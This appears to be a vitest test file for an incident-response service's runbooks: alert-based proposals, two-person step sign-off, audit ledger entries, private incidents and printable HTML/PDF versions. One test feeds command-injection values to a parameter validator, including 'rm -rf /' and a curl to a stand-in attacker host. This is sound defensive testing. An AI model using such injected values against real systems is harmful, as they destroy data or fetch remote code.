// A runbook at night, over HTTP: proposed for an alert, begun, filled in, followed by two people; and on paper for when nothing works.
import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { systemActor } from '../../src/core/kernel/actor.ts'
import type { AlertId, IncidentId } from '../../src/core/kernel/ids.ts'
import { formatInstant, hour, minute, toInstant } from '../../src/core/kernel/instant.ts'
import { inOrganization, type OrganizationTx } from '../../src/database/inOrganization.ts'
import { publishShipped } from '../../src/server/document/publishShipped.ts'
import { publishShippedRunbooks } from '../../src/server/document/shippedRunbooks.ts'
import { checkTables } from '../../src/server/ledger/fsck/checkTables.ts'
import { publishToAll } from '../../src/server/runbook/publishToAll.ts'
import { engines } from '../support/database.ts'
import { eventually } from '../support/eventually.ts'
import { connectSource, sendTo } from '../support/hooks.ts'
import { type House, type SignedInCaller, startTestServer, type TestServer } from '../support/server.ts'

type Step = {
  id: string
  state: string
  awaiting_second: boolean
  blocked: string | null
  commands: { text: string; filled: string; missing: string[] }[]
  marks: {
    id: string
    state: string
    by: { name: string }
    corrects: string | null
    note: string | null
    at: string
    recorded_at: string
  }[]
}
type Run = {
  id: string
  runbook: { id: string; hash: string; number: number; is_current: boolean }
  next: { id: string } | null
  counts: Record<string, number>
  parameters: { name: string; value: string | null; used: number }[]
  sections: { steps: Step[] }[]
}
type Runbook = { id: string; title: string; version: { hash: string; number: number }; steps: number; placeholders: number }

const runbooks = readdirSync(new URL('../../catalogues/templates/runbooks/', import.meta.url)).map((name) => name.replace(/\.md$/, ''))
const leaked = 'leaked-cloud-credential'

const finding = {
  version: '0',
  'detail-type': 'GuardDuty Finding',
  source: 'aws.guardduty',
  account: '111122223333',
  time: '2026-03-04T05:06:07Z',
  region: 'eu-central-1',
  detail: {
    ...{ schemaVersion: '2.0', accountId: '111122223333', region: 'eu-central-1', id: 'EXAMPLEfinding', severity: 8 },
    ...{ type: 'UnauthorizedAccess:IAMUser/TorIPCaller', title: 'A key was used from Tor', updatedAt: '2026-03-04T05:06:07Z' },
    service: { count: 1, eventFirstSeen: '2026-03-04T05:00:00Z', archived: false },
  },
}

describe.each(engines)('runbooks, on %s', (engine) => {
  let server: TestServer
  let house: House
  let ada: SignedInCaller
  let grace: SignedInCaller

  beforeAll(async () => {
    server = await startTestServer(engine)
    house = await server.newHouse()
    ada = await house.signInAs('responder', { name: 'Ada' })
    grace = await house.signInAs('responder', { name: 'Grace' })
    await work((tx) => publishShippedRunbooks(tx, server.clock.now()))
  })
  afterAll(() => server.close())

  const work = <T>(of: (tx: OrganizationTx) => Promise<T>) =>
    inOrganization(server.services.database, house.organizationId, systemActor('test'), of)
  const incident = async (more: object = {}) => {
    const body = { origin: 'report', title: 'A key leaked', ...more }
    const declared = await ada.fetchJson<{ id: IncidentId }>('POST', '/incidents', body)
    expect(declared.status).toBe(201)
    return declared.body.id
  }
  const ask = async (incidentId: IncidentId, what: string, body: object) => {
    const answer = await ada.fetchJson('POST', `/incidents/${incidentId}/${what}`, body)
    expect(`${what} ${answer.status} ${answer.body.detail ?? ''}`).toMatch(/ 20[01] /)
  }
  const start = (incidentId: IncidentId, document_id = leaked) =>
    ada.fetchJson<Run>('POST', `/incidents/${incidentId}/runs`, { document_id })
  const steps = ({ sections }: Pick<Run, 'sections'>) => sections.flatMap((section) => section.steps)
  const step = (run: Run, id: string) => steps(run).find((one) => one.id === id) as Step
  const marking =
    (incidentId: IncidentId, { id }: Run) =>
    (by: SignedInCaller, stepId: string, body: object) =>
      by.fetchJson<Run>('POST', `/incidents/${incidentId}/runs/${id}/steps/${stepId}`, body)

  type Entry = { kind: string; header: string; leaf_hash: string }
  /** What is sealed about runs of an incident, in order. */
  const entries = async (incidentId: IncidentId, count: number) => {
    const admin = await house.signInAs('admin')
    return eventually(async () => {
      const { body } = await admin.fetchJson<{ items: Entry[] }>('GET', `/ledger/entries?obj=${incidentId}`)
      const ofRuns = body.items.filter(({ kind }) => kind.startsWith('run.') || kind.startsWith('step.'))
      expect(ofRuns).toHaveLength(count)
      return ofRuns.reverse()
    })
  }

  test('each organization has the shipped ones once, however often the server starts, and each names its hash', async () => {
    await publishToAll(server.services)
    await Promise.all([publishToAll(server.services), publishToAll(server.services)])
    const { body } = await ada.fetchJson<{ items: Runbook[] }>('GET', '/runbooks')
    expect(body.items.map(({ id }) => id).sort()).toEqual(runbooks)
    for (const { version, steps: count, placeholders } of body.items) {
      expect(version).toMatchObject({ number: 1, published_by: { kind: 'system' } })
      expect(count).toBeGreaterThan(10)
      expect(placeholders).toBeGreaterThan(0)
    }
    const one = await ada.fetchJson<{ markdown: string; warnings: string[]; is_current: boolean }>('GET', `/runbooks/${leaked}`)
    expect(one.body).toMatchObject({ is_current: true, escalation: 'security-oncall', parameters: expect.any(Array) })
    expect(one.body.warnings.length).toBeGreaterThan(2)
    expect((await ada.fetchJson('GET', '/runbooks/none')).status).toBe(404)
    expect((await ada.fetchJson('GET', `/runbooks/${leaked}?version=${'0'.repeat(64)}`)).body.code).toBe('not_found')
  })

  test('one is proposed for the alert of an incident and for its type, and says why; the others follow', async () => {
    const source = await connectSource(await house.signInAs('admin'), { integration: 'guardduty' })
    await sendTo(server.url, source.hookPath, finding)
    const alert = (await ada.fetchJson<{ items: { id: AlertId }[] }>('GET', '/alerts')).body.items[0]?.id as AlertId
    const incidentId = await incident({ incident_type: 'data-exfiltration', origin: 'alert', alert_ids: [alert] })
    type Proposals = { proposed: { runbook: Runbook; because: string; run_id: string | null }[]; others: unknown[] }
    const proposals = async () => (await ada.fetchJson<Proposals>('GET', `/incidents/${incidentId}/runbooks`)).body
    const { proposed, others } = await proposals()
    expect(proposed.slice(0, 2).map(({ runbook, because }) => [runbook.id, because])).toEqual([
      ['data-exfiltration', 'The incident is of the type data-exfiltration.'],
      [leaked, expect.stringContaining('UnauthorizedAccess:IAMUser/TorIPCaller')],
    ])
    expect(proposed.length + others.length).toBe(runbooks.length)
    const run = await start(incidentId)
    expect((await proposals()).proposed[1]?.run_id).toBe(run.body.id)
  })

  test('is followed by two people: values, a role, a correction, stuck, and every word of it on record', async () => {
    const incidentId = await incident()
    await ask(incidentId, 'roles', { role: 'commander', person_id: grace.personId })
    const started = await start(incidentId)
    expect(started).toMatchObject({ status: 201, body: { runbook: { id: leaked, number: 1, is_current: true }, next: { id: 'say-so' } } })
    const mark = marking(incidentId, started.body)
    expect(await start(incidentId)).toMatchObject({ status: 409, body: { code: 'already_exists' } })

    const given = await ada.fetchJson<Run>('POST', `/incidents/${incidentId}/runs/${started.body.id}/parameters`, {
      values: { KEY: ' AKIAIOSFODNN7EXAMPLE\n', USER: 'ci-deploy' },
    })
    expect(given.status).toBe(200)
    expect(step(given.body, 'deactivate').commands[0]).toMatchObject({
      missing: [],
      filled: expect.stringContaining('AKIAIOSFODNN7EXAMPLE'),
    })
    expect(given.body.parameters.find(({ name }) => name === 'KEY')).toMatchObject({
      value: 'AKIAIOSFODNN7EXAMPLE',
      given_by: { name: 'Ada' },
    })

    server.clock.advance(10 * minute)
    const earlier = formatInstant(toInstant(server.clock.now() - 7 * minute))
    const done = await mark(ada, 'say-so', { state: 'done', note: 'Ends in MPLE.', happened_at: earlier })
    expect(step(done.body, 'say-so')).toMatchObject({ state: 'done', last: { by: { name: 'Ada' }, at: earlier, note: 'Ends in MPLE.' } })
    expect(done.body.next?.id).toBe('whose-key')

    expect(step(done.body, 'order').blocked).toContain('commander')
    expect(await mark(ada, 'order', { state: 'done' })).toMatchObject({ status: 403, body: { code: 'role_needed' } })
    expect(step((await mark(grace, 'order', { state: 'done' })).body, 'order').state).toBe('done')

    const first = await mark(ada, 'undo', { state: 'done' })
    expect(step(first.body, 'undo')).toMatchObject({
      state: 'open',
      awaiting_second: true,
      blocked: expect.stringContaining('Somebody else'),
    })
    expect((await mark(ada, 'undo', { state: 'done' })).body.code).toBe('second_person_needed')
    expect(step((await mark(grace, 'undo', { state: 'done' })).body, 'undo')).toMatchObject({ state: 'done', awaiting_second: false })

    expect((await mark(ada, 'say-so', { state: 'open' })).body.code).toBe('reason_needed')
    const back = await mark(grace, 'say-so', { state: 'open', reason: 'It was the wrong channel.' })
    const marks = step(back.body, 'say-so').marks
    expect(marks.map(({ state, corrects }) => [state, corrects])).toEqual([
      ['done', null],
      ['open', marks[0]?.id],
    ])
    const stuck = await mark(ada, 'collect-events', { state: 'stuck', reason: 'No rights in CloudTrail.' })
    expect(stuck.body.counts).toMatchObject({ done: 2, stuck: 1 })
    expect((await mark(ada, 'no-such-step', { state: 'done' })).status).toBe(404)

    const kept = await entries(incidentId, 8)
    expect(kept.map(({ kind }) => kind)).toEqual(['run.started', 'run.parameters_given', ...Array.from({ length: 6 }, () => 'step.marked')])
    const headers = kept.map(({ header }) => JSON.parse(header) as { obj: string; at: number; rec: number; cor?: string })
    expect(headers.every(({ obj }) => obj === incidentId)).toBe(true)
    expect(headers[2]).toMatchObject({ at: Date.parse(earlier) })
    expect((headers[2]?.rec ?? 0) - (headers[2]?.at ?? 0)).toBeGreaterThan(6 * minute)
    expect(headers[6]?.cor).toBe(kept[2]?.leaf_hash)
  })

  test('refuses what would make a command do something else, secrets, and what it does not ask for', async () => {
    const incidentId = await incident()
    const { body: run } = await start(incidentId)
    const give = (values: Record<string, string | null>) =>
      ada.fetchJson<Run>('POST', `/incidents/${incidentId}/runs/${run.id}/parameters`, { values })
    const hostile = ["x'; rm -rf / #", '$(curl attacker.example.com)', '`id`', 'a"b', 'x\\', 'a b']
    for (const value of hostile) {
      // Between other text of a quoted word nothing can be told apart for sure; a word of its own is quoted whatever it holds.
      expect(`${value} ${(await give({ EVIDENCE_BUCKET: value })).body.code}`).toBe(`${value} value_not_safe`)
      const { body } = await give({ namespace: value })
      const typed = steps(body).flatMap(({ commands }) => commands.filter(({ text }) => text.includes('<namespace>')))
      expect(typed.length).toBeGreaterThan(0)
      for (const { filled } of typed) expect(filled).toContain(`'${value.replaceAll("'", "'\\''")}'`)
    }
    for (const value of ['a\nb', '-rf', 'x\u202ey']) expect((await give({ namespace: value })).body.code).toBe('value_not_safe')
    await give({ namespace: null })
    expect((await give({ NOT_ASKED_FOR: 'x' })).body.code).toBe('invalid_request')
    expect((await give({ namespace: null })).body.code).toBe('nothing_changed')
    await give({ namespace: 'payments' })
    expect((await give({ namespace: 'payments' })).body.code).toBe('nothing_changed')
    const taken = await give({ namespace: null })
    expect(taken.body.parameters.find(({ name }) => name === 'namespace')?.value).toBeNull()
    const markdown = '---\nid: rotate\n---\n# Rotate\n## Contain\n1. Use it. {#use}\n   ```sh\n   login --with "$API_TOKEN"\n   ```\n'
    await work((tx) => publishShipped(tx, 'runbook', 'rotate', markdown, server.clock.now()))
    const secret = await start(incidentId, 'rotate')
    const answer = await ada.fetchJson('POST', `/incidents/${incidentId}/runs/${secret.body.id}/parameters`, {
      values: { API_TOKEN: 'abc' },
    })
    expect(answer).toMatchObject({ status: 422, body: { code: 'value_not_safe' } })
    expect((await entries(incidentId, 11)).filter(({ kind }) => kind === 'run.parameters_given')).toHaveLength(9)
  })

  test('two who mark the same step at once make one mark, and two who mark different ones lose none', async () => {
    const incidentId = await incident()
    const { body: run } = await start(incidentId)
    const mark = marking(incidentId, run)
    const same = await Promise.all([ada, grace].map((by) => mark(by, 'say-so', { state: 'done' })))
    expect(same.map(({ status }) => status).sort()).toEqual([200, 409])
    const others = ['whose-key', 'collect-events', 'read-events', 'find-users']
    const all = await Promise.all(others.map((id, at) => mark(at % 2 === 0 ? ada : grace, id, { state: 'done' })))
    expect(all.map(({ status }) => status)).toEqual([200, 200, 200, 200])
    const { body } = await ada.fetchJson<Run>('GET', `/incidents/${incidentId}/runs/${run.id}`)
    expect(body.counts.done).toBe(5)
  })

  test('a run keeps the version it began with, and says that there is a newer one', async () => {
    const incidentId = await incident()
    const text = (what: string) => `---\nid: small\ntitle: Small\n---\n# Small\n## Contain\n1. ${what} {#do}\n`
    await work((tx) => publishShipped(tx, 'runbook', 'small', text('Do it.'), server.clock.now()))
    const { body: run } = await start(incidentId, 'small')
    await work((tx) => publishShipped(tx, 'runbook', 'small', text('Do it better.'), server.clock.now()))
    const { body } = await ada.fetchJson<Run>('GET', `/incidents/${incidentId}/runs/${run.id}`)
    expect(body.runbook).toMatchObject({ number: 1, is_current: false, hash: run.runbook.hash })
    expect(step(body, 'do')).toMatchObject({ text: 'Do it.' })
    expect((await start(incidentId, 'small')).body.runbook).toMatchObject({ number: 2, is_current: true })
    const lines = (await ada.fetchJson<{ items: Run[] }>('GET', `/incidents/${incidentId}/runs`)).body.items
    expect(lines.map(({ runbook }) => runbook.number)).toEqual([1, 2])
  })

  test('nobody but those on it and compliance sees the runs of a private incident, and a closed one takes no marks', async () => {
    const secret = await incident()
    await ask(secret, 'roles', { role: 'responder', person_id: grace.personId })
    await ask(secret, 'privacy', { is_private: true, reason: 'It may be one of us.' })
    expect((await grace.fetchJson<Run>('POST', `/incidents/${secret}/runs`, { document_id: leaked })).status).toBe(201)
    const compliance = await house.signInAs('compliance')
    const seen = async (by: SignedInCaller) => (await by.fetchJson('GET', `/incidents/${secret}/runs`)).status
    const ben = await house.signInAs('responder', { name: 'Ben' })
    expect([await seen(ben), await seen(grace), await seen(compliance)]).toEqual([404, 200, 200])
    expect((await ben.fetchJson('POST', `/incidents/${secret}/runs`, { document_id: leaked })).status).toBe(404)
    expect((await ben.fetchJson('GET', `/incidents/${secret}/runbooks`)).status).toBe(404)
    const closed = await incident()
    await ask(closed, 'dismiss', { reason: 'It was our own test.', disposition: 'test' })
    expect(await start(closed)).toMatchObject({ status: 409, body: { code: 'incident_closed' } })
  })

  test('an incident is not recovered while a containment step is neither done nor skipped', async () => {
    const incidentId = await incident()
    const markdown = '---\nid: one-step\n---\n# One\n## Contain\n1. Stop it. {#stop}\n## Review\n1. Write it up. {#write}\n'
    await work((tx) => publishShipped(tx, 'runbook', 'one-step', markdown, server.clock.now()))
    const missing = async () => (await ada.fetchJson('GET', `/incidents/${incidentId}/closing`)).text
    const { body: run } = await start(incidentId, 'one-step')
    expect(await missing()).toContain('steps_open')
    await marking(incidentId, run)(ada, 'stop', { state: 'stuck', reason: 'No rights in the cluster.' })
    expect(await missing()).toContain('steps_open')
    await marking(incidentId, run)(ada, 'stop', { state: 'done' })
    expect(await missing()).not.toContain('steps_open')
  })

  test('what was done is not believed to lie ahead of us or long before the incident', async () => {
    const incidentId = await incident()
    const { body: run } = await start(incidentId)
    for (const away of [hour, -31 * 24 * hour]) {
      const happened_at = formatInstant(toInstant(server.clock.now() + away))
      const answer = await marking(incidentId, run)(ada, 'say-so', { state: 'done', happened_at })
      expect(answer).toMatchObject({ status: 400, body: { code: 'invalid_request' } })
    }
  })

  test('the tables of runs and documents say what the entries say', async () => {
    const own = ['run', 'run_parameter', 'step_mark', 'document_version']
    const wrong = async () => {
      const found: string[] = []
      await work(async (tx) => {
        for await (const { table, row, column } of checkTables(tx, () => undefined))
          if (own.includes(table)) found.push(`${table} ${row} ${column}`)
      })
      return found
    }
    expect(await wrong()).toEqual([])
  })

  describe('on paper', () => {
    const print = (path: string, by = ada) => fetch(`${server.url}/api/v1${path}`, { headers: by.headers })

    test.each(runbooks)('%s is one HTML file without a script that loads nothing', async (id) => {
      const response = await print(`/runbooks/${id}/print`)
      const text = await response.text()
      expect(response.headers.get('content-type')).toContain('text/html')
      expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
      expect(text).toContain('Content-Security-Policy')
      expect(text).not.toMatch(/<script|<link|<img|<iframe|<object|\bsrc=|@import|url\(|\son[a-z]+=/i)
      expect(text).toContain('SHA-256')
      expect(text).not.toContain('{#')
      // Whatever is in the text is on the paper.
      const { body } = await ada.fetchJson<{ sections: { heading: string; steps: { commands: { text: string }[] }[] }[] }>(
        'GET',
        `/runbooks/${id}`,
      )
      const shown = text
        .replace(/&#39;/g, "'")
        .replace(/&quot;/g, '"')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&amp;/g, '&')
      for (const section of body.sections.slice(1)) {
        expect(shown).toContain(section.heading)
        for (const one of section.steps) for (const { text: command } of one.commands) expect(shown).toContain(command)
      }
    })

    test.each(runbooks)(
      '%s is a tagged PDF',
      async (id) => {
        const response = await print(`/runbooks/${id}/print?format=pdf&paper=letter`)
        expect(response.headers.get('content-type')).toBe('application/pdf')
        const pdf = Buffer.from(await response.arrayBuffer())
        expect(pdf.subarray(0, 5).toString()).toBe('%PDF-')
        expect(pdf.toString('latin1')).toMatch(/\/StructTreeRoot/)
        const text = inPdf(pdf)
        if (text === undefined) return
        const { body } = await ada.fetchJson<{ title: string; sections: { heading: string }[] }>('GET', `/runbooks/${id}`)
        for (const { heading } of body.sections.slice(1)) expect(text).toContain(heading)
        expect(text).toContain(body.title)
      },
      120_000,
    )

    test('whom to reach names the people, the duties and the channels', async () => {
      const markdown = readFileSync(new URL('../../catalogues/templates/policies/incident-response.md', import.meta.url), 'utf8')
      await work((tx) => publishShipped(tx, 'policy', 'incident-response', markdown, server.clock.now()))
      const admin = await house.signInAs('admin', { name: 'Cy' })
      const rotation = await admin.fetchJson<{ id: string }>('POST', '/rotations', {
        ...{ name: 'Primary', time_zone: 'Europe/Zurich', handover: { weekday: 1, time: '09:00' }, starts_on: '2026-01-05' },
        people: [ada.personId],
      })
      await admin.fetchJson('POST', '/escalation-paths', {
        ...{ key: 'security-oncall', name: 'Security on call' },
        levels: [
          { target: { kind: 'rotation', rotation_id: rotation.body.id }, call: 'tel:+41440000001', wait_minutes: 15 },
          { target: { kind: 'person', person_id: admin.personId }, call: 'tel:+41440000002', mechanism: 'phone' },
        ],
      })
      const html = await (await print('/policies/incident-response/contacts/print')).text()
      for (const said of ['Primary, now Ada', '+41440000001', '15 min', 'Who is on call']) expect(html).toContain(said)
      // Once where the path names him, and once beside his address.
      expect(html.split('+41440000002')).toHaveLength(3)
      for (const said of ['Ada', 'SEV1', 'supervisory authority', '72 hours', '#incident-security']) expect(html).toContain(said)
      expect(html).not.toMatch(/<script|\bsrc=/i)
      const pdf = Buffer.from(await (await print('/policies/incident-response/contacts/print?format=pdf')).arrayBuffer())
      expect(inPdf(pdf) ?? 'Whom to reach').toContain('Whom to reach')
      expect((await print('/policies/none/contacts/print')).status).toBe(404)
    }, 120_000)
  })
})

/** Undefined where the machine has no pdftotext. */
function inPdf(pdf: Buffer): string | undefined {
  try {
    return execFileSync('pdftotext', ['-q', '-layout', '-', '-'], { input: pdf, encoding: 'utf8' }).replace(/\s+/g, ' ')
  } catch (error) {
    if ((error as { code?: string }).code !== 'ENOENT') throw error
    console.info('pdftotext is not here: the words of the PDF are not looked at.')
    return undefined
  }
}
